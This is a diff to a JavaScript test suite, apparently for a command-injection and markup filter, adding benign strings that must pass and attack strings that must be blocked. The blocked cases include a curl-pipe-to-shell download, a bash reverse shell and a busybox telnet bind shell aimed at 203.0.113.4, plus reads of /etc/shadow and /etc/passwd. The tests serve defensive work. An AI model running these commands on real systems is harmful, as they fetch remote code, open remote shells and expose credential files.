@@ -66,6 +66,12 @@ describe('command lines', () => {
     '`chmod 777` lets anyone write; use `chmod 755`.',
     'Steps:\nexport VAR=1; echo "$VAR" | tee out.txt\n',
     'mkdir -p /tmp/a && cp -r /src/* /tmp/a; exec nginx',
+    'grep -r "foo" . | sort | uniq -c | head -n 20',
+    '[code]sudo mount /dev/sda1 /mnt; ls -la /mnt[/code]',
+    'run: npm ci && npm run build && cp -r dist out',
+    'tsc -p . && cp -r public dist',
+    '<p>We are open <b>9&ndash;17</b>; call <a href="tel:123">us</a>!</p>',
+    'total 4\nroot:x:0:0:root:/root:/bin/bash\nmia:x:1000:1000::/home/mia:/bin/bash',
   ]);
   blocksInBodies('command_injection', [
     '127.0.0.1 | grep -r password /etc',
@@ -78,6 +84,13 @@ describe('command lines', () => {
     '`chmod 777 /tmp/x`',
     '"; cat /etc/passwd; echo "',
     'a | nslookup x.example.net',
+    'grep -r x .; cat /etc/shadow',
+    'tsc && curl http://203.0.113.4/x | sh',
+    'explain: ls -la; bash -i >& /dev/tcp/203.0.113.4/9 0>&1',
+    '[code]ls -l; cat /etc/passwd[/code]',
+    'x; cat <b.txt',
+    '--help;busybox telnetd -l /bin/sh -p 2323',
+    '1\n/bin/bash',
   ]);
   blocks('command_injection', ['ps aux | grep root', 'ls -la; cat config.php', '/bin/sh -c id']);
 });
@@ -102,6 +115,10 @@ describe('markup of editors', () => {
     '<a href="#" onclick="return false;">link</a>',
     '<button onclick="toggleMenu(this, 2)">Menu</button>',
     '<p onmouseover="">x</p>',
+    '<iframe src="https://player.example.com/video/1" width="640" allowfullscreen></iframe>',
+    '<iframe style="border:0" width="100%" src="https://maps.example.com/embed?pb=1" loading="lazy"></iframe>',
+    'See <a href="http://localhost:3000">http://localhost:3000</a> or <a href=\'http://192.168.1.1/\'>the router</a>',
+    'Use Runtime.getRuntime().availableProcessors() to size your pool',
     '<img src="/logo.svg" onerror="this.style.display=\'none\'">',
     '<img src="/a.png" onerror="this.onerror=null;this.src=\'/fallback.png\';">',
     '<link rel="stylesheet" href="https://fonts.example.com/css2?family=Inter:wght@400;700&display=swap">',
